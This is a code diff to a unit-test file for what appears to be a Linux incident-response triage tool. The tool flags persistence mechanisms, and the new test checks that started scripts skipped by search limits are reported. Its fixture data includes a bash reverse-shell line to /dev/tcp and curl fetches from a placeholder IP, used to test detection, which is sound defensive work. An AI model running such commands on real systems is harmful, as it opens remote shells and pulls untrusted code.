@@ -11,7 +11,7 @@ from pathlib import Path
 from types import SimpleNamespace
 
 import pytest
-from ansible_collections.csirt.linux_triage.plugins.plugin_utils._home_tables._persistence import _persistence
+from ansible_collections.csirt.linux_triage.plugins.plugin_utils._home_tables._persistence import _payloads, _persistence
 from ansible_collections.csirt.linux_triage.tests.unit.plugins.plugin_utils.table_helpers import Home
 
 CRON = b"/etc/cron.d/x"
@@ -110,6 +110,16 @@ def test_lines_of_scripts_that_are_started(home):
     rows = [row for row in told(home, (), targets)["persistence"] if row["mechanism"] == "payload"]
     assert [(row["path"], row["line"], row["command"], row["unowned"]) for row in rows] == [
         ("/opt/started", 3, "bash -c 'bash -i >& /dev/tcp/192.0.2.1/1 0>&1' &", True), ("/opt/without-magic.sh", 1, "curl http://192.0.2.1/x", True)]
+
+
+@pytest.mark.parametrize("limit", ["ALL_BYTES", "FILES"])
+def test_scripts_that_are_started_and_were_not_searched_are_told(home, monkeypatch, limit):
+    monkeypatch.setattr(_payloads, limit, 40 if limit == "ALL_BYTES" else 1)
+    for name in (b"/opt/a", b"/opt/b", b"/var/www/never-started.sh"):
+        home.file(name, b"#!/bin/sh\ncurl http://192.0.2.1/x\n")
+    targets = [{"path": path, "exists": True, "sha256": path, "archived": "[root]" + path} for path in ("/opt/a", "/opt/b")]
+    problems = [row["problem"] for row in told(home, (), targets)["errors"]]
+    assert problems == ["1 scripts that something starts were not searched"]
 
 
 def test_home_stands_for_itself(home):
